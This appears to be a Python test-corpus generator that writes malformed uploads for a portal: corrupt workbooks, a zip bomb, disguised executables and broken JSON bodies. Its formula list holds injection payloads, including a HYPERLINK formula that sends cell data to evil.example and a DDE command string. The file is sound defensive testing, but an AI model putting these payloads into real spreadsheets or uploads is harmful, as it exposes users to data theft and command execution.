"""The bad-input corpus (issue 7 §5): small, deterministic files that every entry point must refuse.

    python tests/portal/corpus/make_corpus.py OUT_DIR      # writes every item, prints name and size

Nothing is committed but this script: the suite builds the corpus in a session fixture
(tests/portal/test_bad_input_corpus.py). Items that must be derived from a real table of the portal
(a valid 附件2 cut in half, formula-laden cells in the real layout, a 附件3 or a ledger export
uploaded as 附件2) are made in the tests from the portal's own exports, with the helpers here.

Oversized items are written sparse (a header, then ``truncate`` past the limit), so they cost no
memory and almost no disk; the zip bomb is streamed through the compressor in 1 MB chunks.
"""

import io
import json
import random
import sys
import zipfile
from pathlib import Path

SEED = 20260715
MB = 1024 * 1024

ATTACHMENT2_MAX_BYTES = 5 * MB  # reporting.imports.DEFAULT_MAX_BYTES
LEDGER_MAX_BYTES = 5 * MB  # ledger.excel (items)
XLSX_MAX_UNCOMPRESSED = 40 * MB  # reporting.imports.MAX_UNCOMPRESSED_BYTES
EVIDENCE_MAX_BYTES = 20 * MB  # indicators.evidence.DEFAULT_MAX_BYTES
BODY_MAX_BYTES = 1048576  # DJANGO_DATA_UPLOAD_MAX_MEMORY_SIZE default

ZIP_MAGIC = b"PK\x03\x04"
OLE2_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
PDF_HEAD = b"%PDF-1.4\n"

# Cell texts a spreadsheet would run as formulas or DDE (CSV/formula injection).
FORMULAS = ["=1+1", '=HYPERLINK("http://evil.example/?q="&A1,"点此")', "@SUM(A1)", "+cmd|' /C calc'!A0", "-2+3"]


def _random(n, salt=0):
    return random.Random(SEED + salt).randbytes(n)


# --- .xlsx files ---------------------------------------------------------------------------------


def corrupt_xlsx():
    """A zip header followed by random bytes."""
    return ZIP_MAGIC + _random(4096)


def xls_renamed():
    """An old-format Excel (OLE2) file named .xlsx."""
    return OLE2_MAGIC + _random(2048, 1)


def csv_renamed():
    return "序号,省,地市,县\n1,宁夏回族自治区,银川市,兴庆区\n".encode()


def zip_without_workbook():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("readme.txt", "不是工作簿")
    return out.getvalue()


def zip_bomb(uncompressed=XLSX_MAX_UNCOMPRESSED + MB):
    """A package with the two entries an .xlsx must have and one entry of zeros that unpacks past the limit."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        archive.writestr("xl/workbook.xml", '<?xml version="1.0"?><workbook/>')
        chunk = bytes(MB)
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=False) as entry:
            left = uncompressed
            while left:
                entry.write(chunk[: min(left, MB)])
                left -= min(left, MB)
    return out.getvalue()


def other_headers_xlsx(sheet_title="附件2"):
    """A real workbook, sheet named as asked, whose headers are another table's."""
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    ws.title = sheet_title
    ws.append(["编号", "姓名", "部门", "电话"])
    ws.append([1, "张三", "办公室", "13800000000"])
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def truncated(data):
    """A valid file cut in half, as an interrupted upload leaves it."""
    return data[: len(data) // 2]


def write_sparse(path, size, head=ZIP_MAGIC):
    """A file of ``size`` bytes that starts with ``head``; the rest is a hole (zeros, no disk, no memory)."""
    path = Path(path)
    with path.open("wb") as handle:
        handle.write(head)
        handle.truncate(size)
    return path


# --- evidence uploads ----------------------------------------------------------------------------


def exe_named_pdf():
    return b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + _random(1024, 2)


def html_named_pdf():
    return b"<!DOCTYPE html><html><script>alert(1)</script></html>"


def tiny_pdf():
    return PDF_HEAD + b"1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"


# --- JSON bodies for the API ---------------------------------------------------------------------


def json_bodies():
    """name -> (bytes, what the API must answer: (status, code))."""
    good_item = {"number": 1, "status": "done", "done_month": "2022-03"}
    return {
        "truncated": (b'{"checkmarks": [{"number": 1, "status": "do', (400, "parse_error")),
        "not_json": (b"{not json", (400, "parse_error")),
        "empty": (b"", (400, "validation_error")),
        "list_not_object": (json.dumps([good_item]).encode(), (400, "validation_error")),
        "checkmarks_a_string": (json.dumps({"checkmarks": "all done"}).encode(), (400, "validation_error")),
        "wrong_types": (
            json.dumps({"checkmarks": [{"number": "一", "status": 3, "done_month": ["2022"]}]}).encode(),
            (400, "validation_error"),
        ),
        "huge_string": (
            json.dumps({"checkmarks": [{**good_item, "note": "长" * 200_000}]}, ensure_ascii=False).encode(),
            (400, "validation_error"),
        ),
        "deeply_nested": (b'{"checkmarks": ' + b"[" * 50_000 + b"]" * 50_000 + b"}", (400, "parse_error")),
        "non_utf8": ('{"checkmarks": [{"number": 1, "status": "done", "note": "锦江区"}]}'.encode("gbk"), (400, "parse_error")),
        "nan": (b'{"checkmarks": [{"number": NaN, "status": "done"}]}', (400, None)),
        "over_limit": (
            json.dumps({"checkmarks": [{**good_item, "note": "x" * (BODY_MAX_BYTES + 10)}]}).encode(),
            (413, "payload_too_large"),
        ),
    }


# --- the command ---------------------------------------------------------------------------------


def build(directory):
    """Write every DB-independent item into ``directory``; return name -> path."""
    directory = Path(directory)
    directory.mkdir(parents=True, exist_ok=True)
    files = {
        "corrupt.xlsx": corrupt_xlsx(),
        "xls-renamed.xlsx": xls_renamed(),
        "csv-renamed.xlsx": csv_renamed(),
        "zip-not-workbook.xlsx": zip_without_workbook(),
        "zip-bomb.xlsx": zip_bomb(),
        "other-headers.xlsx": other_headers_xlsx(),
        "other-sheet.xlsx": other_headers_xlsx("Sheet1"),
        "evidence-exe.pdf": exe_named_pdf(),
        "evidence-html.pdf": html_named_pdf(),
    }
    paths = {}
    for name, data in files.items():
        (directory / name).write_bytes(data)
        paths[name] = directory / name
    paths["oversized.xlsx"] = write_sparse(directory / "oversized.xlsx", ATTACHMENT2_MAX_BYTES + 1)
    paths["oversized-evidence.pdf"] = write_sparse(directory / "oversized-evidence.pdf", EVIDENCE_MAX_BYTES + 1, head=PDF_HEAD)
    json_dir = directory / "json"
    json_dir.mkdir(exist_ok=True)
    for name, (body, _expected) in json_bodies().items():
        (json_dir / f"{name}.json").write_bytes(body)
        paths[f"json/{name}.json"] = json_dir / f"{name}.json"
    return paths


if __name__ == "__main__":
    if len(sys.argv) != 2:
        sys.exit("用法：python tests/portal/corpus/make_corpus.py 输出目录")
    for name, path in sorted(build(sys.argv[1]).items()):
        print(f"{path.stat().st_size:>10}  {name}")
